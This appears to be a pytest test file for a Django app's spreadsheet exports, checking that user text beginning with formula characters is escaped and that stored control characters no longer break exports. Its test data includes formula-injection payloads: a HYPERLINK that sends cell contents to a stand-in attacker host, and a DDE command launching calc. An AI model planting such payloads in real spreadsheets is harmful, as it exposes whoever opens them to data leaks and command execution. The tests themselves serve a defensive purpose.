"""Text people typed must not run as a formula when an export is opened in a spreadsheet
program (CSV/formula injection): text starting with =, +, -, @, tab or CR gets a leading
apostrophe; numbers stay numbers. The files are read back as a spreadsheet would."""

import io

import openpyxl
import pandas as pd
import pytest
from django.db import connection
from django.urls import reverse

from analysis.models import Analysis, AnalysisStatus, Answer
from boligsosial.spreadsheets import neutralise_formulas
from factors.models import FactorAssessment
from reference.models import Question, Region, SuccessFactor

pytestmark = pytest.mark.django_db

DANGEROUS = [
    '=HYPERLINK("https://angriper.example/?d="&A1;"Klikk")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def workbook_cells(content: bytes) -> dict[str, list]:
    """Every cell of every sheet, as openpyxl reads it: a formula comes back as its text
    starting with "=" and with data_type "f"."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    return {ws.title: [cell for row in ws.iter_rows() for cell in row] for ws in book}


@pytest.fixture
def typed_like_formulas(analysis, planner):
    questions = Question.objects.filter(
        section__questionnaire=analysis.round.questionnaire, kind="text"
    )[: len(DANGEROUS)]
    for question, value in zip(questions, DANGEROUS, strict=True):
        Answer.objects.create(analysis=analysis, question=question, value=value)
    FactorAssessment.objects.create(
        analysis=analysis,
        factor=SuccessFactor.objects.get(number=1),
        score=3,
        status="=1+1",
        challenges="@A1",
    )
    planner.first_name = '=HYPERLINK("https://angriper.example")'
    planner.save()
    Analysis.objects.filter(pk=analysis.pk).update(
        status=AnalysisStatus.IN_PROGRESS, last_activity_by=planner
    )
    return analysis


def test_answers_export_neutralises_text_that_looks_like_a_formula(client_for, typed_like_formulas):
    response = client_for("adviser").get(
        reverse("reports:answers_export", args=[typed_like_formulas.pk])
    )
    cells = [c for sheet in workbook_cells(response.content).values() for c in sheet]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = {c.value for c in cells}
    for value in [*DANGEROUS, "=1+1", "@A1"]:
        assert "'" + value in values
        assert value not in values
    # the score is still a number
    factors = workbook_cells(response.content)["De seks suksessfaktorene"]
    assert 3 in [c.value for c in factors if c.data_type == "n"]


def overview_export(client, fmt):
    region = Region.objects.get(name="Statsforvalteren i Nordland")
    return client.get(reverse("overview:region_export", args=[region.pk, fmt]))


def test_overview_excel_neutralises_a_name_that_looks_like_a_formula(
    client_for, typed_like_formulas
):
    response = overview_export(client_for("adviser"), "xlsx")
    cells = workbook_cells(response.content)["Oversikt"]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    frame = pd.read_excel(io.BytesIO(response.content), dtype={"Kommunenummer": str})
    fauske = frame[frame["Kommunenummer"] == "1841"].iloc[0]
    assert fauske["Siste aktivitet av"] == '\'=HYPERLINK("https://angriper.example")'
    assert fauske["Forankring og eierskap"] == 3
    assert frame["Framdrift (%)"].dtype.kind == "i"


def test_overview_csv_neutralises_a_name_that_looks_like_a_formula(client_for, typed_like_formulas):
    response = overview_export(client_for("adviser"), "csv")
    frame = pd.read_csv(
        io.BytesIO(response.content), sep=";", encoding="utf-8-sig", dtype={"Kommunenummer": str}
    )
    fauske = frame[frame["Kommunenummer"] == "1841"].iloc[0]
    assert fauske["Siste aktivitet av"] == '\'=HYPERLINK("https://angriper.example")'
    assert not any(str(v).startswith("=") for v in frame.to_numpy().ravel())
    assert frame["Framdrift (%)"].dtype.kind == "i"


def test_a_negative_number_stays_a_number():
    frame = neutralise_formulas(
        pd.DataFrame({"Endring": pd.array([-2, None], dtype="Int64"), "Tall": [-1.5, "-1"]})
    )
    assert frame["Endring"].dtype == "Int64"
    assert frame["Endring"].tolist()[0] == -2
    assert frame["Tall"].tolist() == [-1.5, "'-1"]


# A control character stored before forms cleaned text (a vertical tab pasted from Word, an
# escape): openpyxl refuses it, so the export answered 500 for everyone (issue 11, defect 2).
# A NUL only on SQLite: PostgreSQL refuses it in text, so it can never be stored there.
STORED_CONTROLS = "Koordinerings\x0bgruppe\x1b"


@pytest.fixture
def stored_with_controls(analysis, planner):
    from analysis.models import CooperationBody

    nul = "\x00" if connection.vendor == "sqlite" else ""
    CooperationBody.objects.create(
        analysis=analysis, name=STORED_CONTROLS + nul, members="NAV\x0bEiendom", mandate="\x07"
    )
    question = Question.objects.filter(
        section__questionnaire=analysis.round.questionnaire, kind="text"
    ).first()
    Answer.objects.create(analysis=analysis, question=question, value="Svar\x01 med\x0cskift")
    planner.first_name = "Ka\x0bri"
    planner.save()
    Analysis.objects.filter(pk=analysis.pk).update(
        status=AnalysisStatus.IN_PROGRESS, last_activity_by=planner
    )
    return analysis


def test_answers_export_with_a_stored_control_character_opens(client_for, stored_with_controls):
    response = client_for("adviser").get(
        reverse("reports:answers_export", args=[stored_with_controls.pk])
    )
    assert response.status_code == 200
    values = [str(c.value) for s in workbook_cells(response.content).values() for c in s]
    assert "Samarbeidsorgan: Koordinerings\ngruppe" in values
    assert "Svar med\nskift" in values
    assert not [v for v in values if any(ord(ch) < 32 and ch not in "\t\n\r" for ch in v)]


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_overview_exports_with_a_stored_control_character_open(
    client_for, stored_with_controls, fmt
):
    response = overview_export(client_for("adviser"), fmt)
    assert response.status_code == 200
    if fmt == "xlsx":
        text = " ".join(str(c.value) for c in workbook_cells(response.content)["Oversikt"])
    else:
        text = response.content.decode("utf-8-sig")
    assert "Ka ri" in text or "Ka\nri" in text
    assert not any(ord(ch) < 32 and ch not in "\t\n\r" for ch in text)
